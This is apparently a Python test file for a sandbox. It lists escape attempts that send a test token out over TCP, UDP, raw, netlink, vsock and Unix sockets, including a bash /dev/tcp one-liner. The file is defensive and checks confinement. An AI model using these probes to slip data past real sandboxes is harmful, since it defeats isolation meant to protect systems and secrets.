"""Reaching others through sockets: the network, and the machine's own."""

from tests.attacks.case import Case, Where

_TOKEN = "WORLD.token.encode()"

CASES = (
    Case(
        "tcp",
        f"""
        with socket.create_connection(("127.0.0.1", WORLD.tcp), 2) as made:
            made.sendall({_TOKEN})
        """,
    ),
    Case(
        "tcp-by-updater",
        f"""
        with socket.create_connection(("127.0.0.1", WORLD.tcp), 2) as made:
            made.sendall({_TOKEN})
        """,
        Where.UPDATER,
    ),
    Case(
        "tcp-to-machines-address",
        f"""
        if WORLD.outside:
            with socket.create_connection(tuple(WORLD.outside), 2) as made:
                made.sendall({_TOKEN})
        """,
    ),
    Case(
        "tcp-fast-open",
        f"""
        with socket.socket() as made:
            made.sendto({_TOKEN}, 0x20000000, ("127.0.0.1", WORLD.tcp))
        """,
    ),
    Case(
        "tcp-by-program",
        """
        words = f"exec 3<>/dev/tcp/127.0.0.1/{WORLD.tcp}; echo {WORLD.token} >&3"
        subprocess.run(["bash", "-c", words], check=False)
        """,
    ),
    Case(
        "tcp-by-library",
        """
        import urllib.request
        urllib.request.urlopen(f"http://127.0.0.1:{WORLD.tcp}/{WORLD.token}", timeout=0.3)
        """,
    ),
    Case(
        "listen",
        """
        with socket.socket() as made:
            made.bind(("127.0.0.1", 0))
            made.listen()
            escaped(f"listens on {made.getsockname()}")
        """,
    ),
    Case(
        "udp",
        f"""
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
            made.sendto({_TOKEN}, ("127.0.0.1", WORLD.udp))
        """,
    ),
    Case(
        "udp-question",
        f"""
        name = {_TOKEN}
        question = b"\\0\\7\\1\\0\\0\\1" + bytes(6) + bytes([len(name)]) + name + b"\\7invalid\\0\\0\\1\\0\\1"
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
            made.sendto(question, ("127.0.0.1", WORLD.udp))
        """,
    ),
    Case(
        "udp-six",
        f"""
        with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as made:
            made.sendto({_TOKEN}, ("::ffff:127.0.0.1", WORLD.udp))
        """,
    ),
    Case(
        "raw",
        """
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP):
            escaped("a raw socket")
        """,
    ),
    Case(
        "ping",
        """
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP):
            escaped("a socket for pings")
        """,
    ),
    Case(
        "packets",
        """
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW):
            escaped("a socket for packets")
        """,
    ),
    Case(
        "netlink",
        """
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW) as made:
            made.send(struct.pack("IHHIIBxxxiII", 32, 18, 0x301, 1, 0, 0, 0, 0, 0))
            escaped(f"{len(made.recv(1 << 16))} bytes on the machine's network")
        """,
    ),
    Case(
        "virtual-machine",
        """
        with socket.socket(40, socket.SOCK_STREAM):
            escaped("a socket to the machine's own host")
        """,
    ),
    Case(
        "ciphers",
        """
        with socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET) as made:
            made.bind(("hash", "sha256"))
            escaped("the kernel's ciphers")
        """,
    ),
    Case(
        "bluetooth-and-others",
        """
        for family in (1, 2, 3, 4, 5, 9, 10, 11, 16, 17, 21, 29, 30, 31, 38, 39, 40, 44, 45):
            with suppress(OSError):
                call("socket", family, socket.SOCK_DGRAM, 0)
                escaped(f"a socket of family {family}")
        """,
    ),
    Case(
        "unix-path",
        f"""
        with socket.socket(socket.AF_UNIX) as made:
            made.connect(WORLD.stream)
            made.sendall({_TOKEN})
        """,
    ),
    Case(
        "unix-path-datagram",
        f"""
        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as made:
            made.sendto({_TOKEN}, WORLD.datagram)
        """,
    ),
    Case(
        "unix-abstract",
        f"""
        with socket.socket(socket.AF_UNIX) as made:
            made.connect("\\0" + WORLD.abstract)
            made.sendall({_TOKEN})
        """,
    ),
    Case(
        "pair-that-sends-elsewhere",
        f"""
        one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        one.sendto({_TOKEN}, WORLD.datagram)
        """,
    ),
    Case(
        "pair-that-sends-elsewhere-by-message",
        f"""
        one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        one.sendmsg([{_TOKEN}], [], 0, WORLD.datagram)
        """,
    ),
    Case(
        "pair-that-sends-to-a-name",
        f"""
        one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        one.sendto({_TOKEN}, "\\0" + WORLD.abstract + "-datagram")
        """,
    ),
    Case(
        "pair-that-connects-anew",
        f"""
        one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        one.connect(WORLD.datagram)
        one.send({_TOKEN})
        """,
    ),
    Case(
        "other-pairs",
        """
        for family in (2, 10, 16, 30, 40):
            with suppress(OSError):
                socket.socketpair(family, socket.SOCK_DGRAM)
                escaped(f"a pair of family {family}")
        """,
    ),
    Case(
        "interfaces",
        """
        found = [name for _, name in socket.if_nameindex() if name != "lo"]
        if found:
            escaped(found)
        """,
    ),
)
